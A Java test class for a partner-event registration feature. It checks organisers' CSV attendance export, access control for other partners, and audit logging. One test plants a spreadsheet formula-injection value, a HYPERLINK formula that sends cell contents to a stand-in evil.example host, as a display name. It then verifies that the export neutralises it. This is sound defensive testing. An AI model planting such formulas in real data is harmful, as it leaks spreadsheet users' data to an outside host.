package eu.herald.partners.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.not;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import eu.herald.HeraldTest;
import eu.herald.SignIn;
import jakarta.servlet.http.Cookie;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;

/**
 * An event's registrants: its organisers see them on the event page and download them as a CSV attendance list
 * (parsed back; a name a spreadsheet would run as a formula is neutralised; the download is audited without names);
 * partners — even of the event's group — never see anyone else's registration.
 */
@HeraldTest
class PartnerEventRegistrantsTests {

    @Autowired
    MockMvc mvc;

    @Autowired
    JdbcClient jdbc;

    PartnerFixtures fixtures;

    @BeforeEach
    void setUp() {
        fixtures = new PartnerFixtures(mvc, jdbc);
    }

    @Test
    void theOrganiserSeesAndDownloadsTheRegistrantsAndAFormulaNameIsNeutralised() throws Exception {
        String suffix = UUID.randomUUID().toString().substring(0, 8);
        String network = fixtures.group(PartnerFixtures.GENT, "BIN list " + suffix, "NEIGHBOURHOOD_NETWORK");
        String anna = fixtures.partner("anna", PartnerFixtures.GENT, "nl");
        String mallory = fixtures.partner("mallory", PartnerFixtures.GENT, "nl");
        String formula = "=HYPERLINK(\"http://evil.example/\"&A1;\"" + suffix + "\")";
        jdbc.sql("UPDATE accounts.app_user SET display_name = ? WHERE email = ?")
                .params(formula, mallory)
                .update();
        fixtures.member(network, anna, "BASIC", true);
        fixtures.member(network, mallory, "BASIC", false);
        String event = fixtures.event(PartnerFixtures.GENT, network, "Aanwezigheid " + suffix, 10, 6);
        for (String email : List.of(anna, mallory)) {
            mvc.perform(post("/api/v1/partners/events/" + event + "/registration")
                            .header("Authorization", "Bearer " + fixtures.token(email)))
                    .andExpect(status().isOk());
        }

        Cookie admin = SignIn.as(mvc, "admin@herald.test");
        mvc.perform(get("/partners/events/" + event).cookie(admin).header("Accept-Language", "en"))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("id=\"registrants-table\"")))
                .andExpect(content().string(containsString("anna Tester")))
                .andExpect(content().string(containsString("BIN list " + suffix)))
                .andExpect(content().string(containsString("/partners/events/" + event + "/registrations.csv")));

        byte[] bytes = mvc.perform(get("/partners/events/" + event + "/registrations.csv")
                        .cookie(admin)
                        .header("Accept-Language", "nl"))
                .andExpect(status().isOk())
                .andExpect(header().string("Content-Type", containsString("text/csv")))
                .andExpect(header().string("Content-Disposition", containsString("attachment")))
                .andExpect(header().string("Cache-Control", containsString("no-store")))
                .andReturn()
                .getResponse()
                .getContentAsByteArray();
        String csv = new String(bytes, StandardCharsets.UTF_8);
        assertThat(csv).startsWith("\uFEFF");
        List<CSVRecord> records =
                CSVFormat.RFC4180.parse(new StringReader(csv.substring(1))).getRecords();
        assertThat(records).hasSize(3);
        assertThat(records.getFirst().values())
                .containsExactly(
                        "Naam", "Partnergroep", "Organisatie", "Ingeschreven op (Brusselse tijd)", "Handtekening");
        assertThat(records.get(1).get(0)).isEqualTo("anna Tester");
        assertThat(records.get(1).get(1)).isEqualTo("BIN list " + suffix);
        assertThat(records.get(1).get(2)).isEqualTo(PartnerFixtures.GENT);
        assertThat(records.get(1).get(3)).matches("\\d\\d/\\d\\d/\\d{4} \\d\\d:\\d\\d");
        // the formula comes back as text, with its quotes and semicolon intact, behind an apostrophe
        assertThat(records.get(2).get(0)).isEqualTo("'" + formula);
        assertThat(csv).doesNotContain(anna).doesNotContain(mallory);

        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> {
            List<String> audited = jdbc.sql("SELECT actor_name || ' ' || after::text FROM audit.audit_entry"
                            + " WHERE subject_id = ? AND action = 'partners.event.registrations-exported'")
                    .param(event)
                    .query(String.class)
                    .list();
            assertThat(audited).hasSize(1);
            assertThat(audited.getFirst())
                    .contains("\"rows\": 2")
                    .contains("csv")
                    .doesNotContain("anna")
                    .doesNotContain("HYPERLINK");
        });
    }

    @Test
    void aPartnerOfTheGroupNeverSeesTheOthersRegistrations() throws Exception {
        String suffix = UUID.randomUUID().toString().substring(0, 8);
        String network = fixtures.group(PartnerFixtures.GENT, "BIN private " + suffix, "NEIGHBOURHOOD_NETWORK");
        String coordinator = fixtures.partner("coco", PartnerFixtures.GENT, "nl");
        String other = fixtures.partner("otto", PartnerFixtures.GENT, "nl");
        fixtures.member(network, coordinator, "CONFIDENTIAL", true);
        fixtures.member(network, other, "BASIC", false);
        String event = fixtures.event(PartnerFixtures.GENT, network, "Privé " + suffix, 10, 6);
        mvc.perform(post("/api/v1/partners/events/" + event + "/registration")
                        .header("Authorization", "Bearer " + fixtures.token(other)))
                .andExpect(status().isOk());

        Cookie partner = SignIn.as(mvc, coordinator);
        mvc.perform(get("/partners/events/" + event).cookie(partner))
                .andExpect(status().isOk())
                .andExpect(content().string(not(containsString("otto Tester"))))
                .andExpect(content().string(not(containsString("registrants-table"))))
                .andExpect(content().string(not(containsString("registrations.csv"))));
        mvc.perform(get("/partners/events/" + event + "/registrations.csv").cookie(partner))
                .andExpect(status().isForbidden());
        // a communicator elsewhere (Ixelles) does not organise a Ghent event: not found
        mvc.perform(get("/partners/events/" + event + "/registrations.csv")
                        .cookie(SignIn.as(mvc, "communicator@herald.test")))
                .andExpect(status().isNotFound());
        mvc.perform(get("/partners/events/" + event).cookie(SignIn.as(mvc, "communicator@herald.test")))
                .andExpect(status().isNotFound());
        assertThat(jdbc.sql("SELECT count(*) FROM audit.audit_entry WHERE subject_id = ?"
                                + " AND action = 'partners.event.registrations-exported'")
                        .param(event)
                        .query(Integer.class)
                        .single())
                .isZero();
    }
}
